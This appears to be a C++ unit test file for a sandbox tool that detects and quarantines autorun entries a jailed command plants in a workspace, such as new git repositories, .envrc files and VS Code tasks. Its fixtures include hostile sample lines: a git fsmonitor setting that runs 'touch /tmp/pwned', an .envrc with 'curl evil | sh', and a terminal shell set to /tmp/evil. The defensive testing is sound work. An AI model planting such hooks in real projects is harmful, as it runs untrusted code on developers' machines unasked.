@@ -1,0 +1,107 @@
+// Finding what a jailed command planted for programs to run later: the
+// snapshot before and after, and moving it aside.
+#include "agent/planted_code.h"
+
+#include <gtest/gtest.h>
+
+#include <filesystem>
+
+#include "common/test_env.h"
+
+namespace fs = std::filesystem;
+using namespace warden::agent;
+using warden::test::make_temp_dir;
+using warden::test::read_file;
+using warden::test::write_file;
+
+namespace {
+
+// A repository's bare layout: enough for git to take the folder as one.
+void make_repository_shape(const std::string& dir) {
+  fs::create_directories(dir + "/objects");
+  fs::create_directories(dir + "/refs/heads");
+  write_file(dir + "/HEAD", "ref: refs/heads/main\n");
+  write_file(dir + "/config", "[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = \"touch /tmp/pwned; false\"\n");
+}
+
+class PlantedCode : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    ws_ = fs::canonical(make_temp_dir("ws")).string();
+    // What was there before the command: ordinary files, an existing nested
+    // repository, a .vscode folder.
+    write_file(ws_ + "/README.md", "hello\n");
+    write_file(ws_ + "/old/.git/config", "[core]\n");
+    write_file(ws_ + "/old/.git/HEAD", "ref: refs/heads/main\n");
+    write_file(ws_ + "/.vscode/settings.json", "{}\n");
+    before_ = snapshot_autorun_entries(ws_, true);
+  }
+  std::vector<std::string> planted() { return planted_since(before_, snapshot_autorun_entries(ws_, true)); }
+
+  std::string ws_;
+  PlantedSnapshot before_;
+};
+
+TEST_F(PlantedCode, OrdinaryWorkIsNotFlagged) {
+  write_file(ws_ + "/src/main.c", "int main(){}\n");
+  write_file(ws_ + "/README.md", "changed\n");
+  write_file(ws_ + "/old/.git/index", "git writes this on every status\n");
+  write_file(ws_ + "/old/.git/objects/ab/cdef", "blob\n");
+  write_file(ws_ + "/notes/HEAD", "a file named HEAD alone is not a repository\n");
+  EXPECT_EQ(planted(), std::vector<std::string>{});
+}
+
+TEST_F(PlantedCode, NewRepositoriesAndHooksAnywhereAreFlagged) {
+  write_file(ws_ + "/sub/.git/config", "[core]\n\tfsmonitor = evil\n");  // git init in a subfolder
+  write_file(ws_ + "/a/b/.envrc", "curl evil | sh\n");
+  write_file(ws_ + "/a/.vscode/tasks.json", "{\"runOn\": \"folderOpen\"}\n");
+  write_file(ws_ + "/.vscode/settings.json", "{\"terminal.integrated.shell.linux\": \"/tmp/evil\"}\n");
+  make_repository_shape(ws_);            // the workspace root itself, without a .git name
+  make_repository_shape(ws_ + "/bare");  // and a subfolder
+  EXPECT_EQ(planted(), (std::vector<std::string>{".vscode", "HEAD", "config", "a/.vscode", "bare/HEAD",
+                                                 "bare/config", "sub/.git", "a/b/.envrc"}));
+}
+
+TEST_F(PlantedCode, AReplacedRepositoryIsFlagged) {
+  // The jail masks an existing repository's config and hooks, so a command
+  // swaps the whole folder instead; or points it elsewhere with commondir.
+  fs::rename(ws_ + "/old/.git", ws_ + "/old/.git-orig");
+  write_file(ws_ + "/old/.git/config", "[core]\n\tfsmonitor = evil\n");
+  EXPECT_EQ(planted(), std::vector<std::string>{"old/.git"});
+}
+
+TEST_F(PlantedCode, ALinkInPlaceOfAnAutorunFileIsFlagged) {
+  fs::create_symlink("../elsewhere/.envrc", ws_ + "/.envrc");
+  fs::create_directories(ws_ + "/sub");
+  fs::create_directory_symlink("/tmp", ws_ + "/sub/.git");
+  EXPECT_EQ(planted(), (std::vector<std::string>{".envrc", "sub/.git"}));
+}
+
+TEST_F(PlantedCode, GitEntriesAreLeftOutWhenTheHumanAllowedGitWrites) {
+  const PlantedSnapshot before = snapshot_autorun_entries(ws_, false);
+  write_file(ws_ + "/sub/.git/config", "[core]\n");
+  make_repository_shape(ws_ + "/bare");
+  write_file(ws_ + "/sub/.envrc", "x\n");
+  EXPECT_EQ(planted_since(before, snapshot_autorun_entries(ws_, false)), std::vector<std::string>{"sub/.envrc"});
+}
+
+TEST_F(PlantedCode, QuarantineRenamesAndKeepsEverything) {
+  write_file(ws_ + "/sub/.git/config", "[core]\n\tfsmonitor = evil\n");
+  write_file(ws_ + "/.envrc.warden-quarantine", "an earlier one\n");
+  write_file(ws_ + "/.envrc", "curl evil | sh\n");
+  make_repository_shape(ws_);
+  const auto moved = quarantine(ws_, planted());
+  EXPECT_EQ(moved, (std::vector<std::string>{".envrc -> .envrc.warden-quarantine.1", "HEAD -> HEAD.warden-quarantine",
+                                             "config -> config.warden-quarantine",
+                                             "sub/.git -> sub/.git.warden-quarantine"}));
+  EXPECT_FALSE(fs::exists(ws_ + "/sub/.git"));
+  EXPECT_EQ(read_file(ws_ + "/sub/.git.warden-quarantine/config"), "[core]\n\tfsmonitor = evil\n");
+  EXPECT_EQ(read_file(ws_ + "/.envrc.warden-quarantine"), "an earlier one\n");
+  EXPECT_EQ(read_file(ws_ + "/.envrc.warden-quarantine.1"), "curl evil | sh\n");
+  // What is left is no longer a repository, and nothing new is planted.
+  EXPECT_FALSE(fs::exists(ws_ + "/HEAD"));
+  EXPECT_EQ(planted_since(snapshot_autorun_entries(ws_, true), snapshot_autorun_entries(ws_, true)),
+            std::vector<std::string>{});
+}
+
+}  // namespace
